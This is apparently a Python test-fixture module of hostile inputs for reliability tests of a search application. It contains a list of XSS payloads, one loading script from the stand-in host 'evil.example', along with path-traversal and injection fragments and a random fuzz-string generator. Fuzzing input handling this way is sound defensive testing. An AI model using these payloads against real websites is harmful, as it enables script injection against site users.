"""Hostile inputs shared by the reliability tests: XSS payloads and adversarial query strings."""

from __future__ import annotations

import random

#: script injection attempts: tags, attribute breakouts, javascript: URLs, SVG, encoded forms
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{7*7}}<script>alert(1)</script>",
    "<mark onclick=alert(1)>x</mark>",
    "<mark>ok</mark><script>alert(1)</script>",
    "`-alert(1)-`",
]

_OPERATORS = ['"', "(", ")", "*", "~", "~2", "-", "+", "OR", "AND", "NOT", "ANDNOT", ":", "[", "]", "^", "TO",
              "..", "year:", "city:", "network:", "section:", "kind:", "country:", "foo:", "\\", "/", "?", "{", "}"]
_WORDS = ["cctv", "prevention", "amiens", "bagneux", "ffsu", "efus", "2008", "1990s", "since", "before", "the",
          "sécurité", "justice", "training", "video", "surveillance", "a", "of", "de", "la"]
_WEIRD = ["\x00", "\x01", "\x1b[31m", "\u202e", "\ufeff", "\ud7ff", "💥", "\u0301", "\t", "\n", "\r\n", "%00",
          "%", "%%", "&", "#", "../", "..%2F", "%2e%2e%2f", "....//", "\\..\\", "'", ";", "--", "/*", "NULL",
          "9" * 40, "-1", "0", "1e9", "NaN", "inf"]


def hostile_string(rng: random.Random) -> str:
    """A random adversarial string: operators, words, control characters, payloads, long runs."""
    kind = rng.random()
    if kind < 0.1:
        return rng.choice(XSS_PAYLOADS)
    if kind < 0.15:
        return rng.choice(["*", "**", "*:*", "?", '"', "(", ")", "((((((((((cctv", "cctv))))))", "~", "-", "+-+-"])
    if kind < 0.2:
        return ("(" * rng.randint(10, 200)) + "cctv" + (")" * rng.randint(0, 200))
    if kind < 0.25:
        return rng.choice(_WORDS) * rng.randint(50, 300)
    if kind < 0.3:
        return " ".join(rng.choice(_WORDS) + "*" for _ in range(rng.randint(1, 60)))
    parts = []
    for _ in range(rng.randint(1, 12)):
        r = rng.random()
        if r < 0.4:
            parts.append(rng.choice(_WORDS))
        elif r < 0.75:
            parts.append(rng.choice(_OPERATORS))
        else:
            parts.append(rng.choice(_WEIRD))
    return rng.choice(["", " "]).join(parts)


def hostile_number(rng: random.Random) -> str:
    return rng.choice(["0", "-1", "1", "2", "100", "101", "1000", "1001", "99999999999999999999", "1.5", "abc", "",
                       " 3 ", "0x10", "1e3", "-0", "２", "NaN", "2008", "1799", "2100", "%00", "[]"])
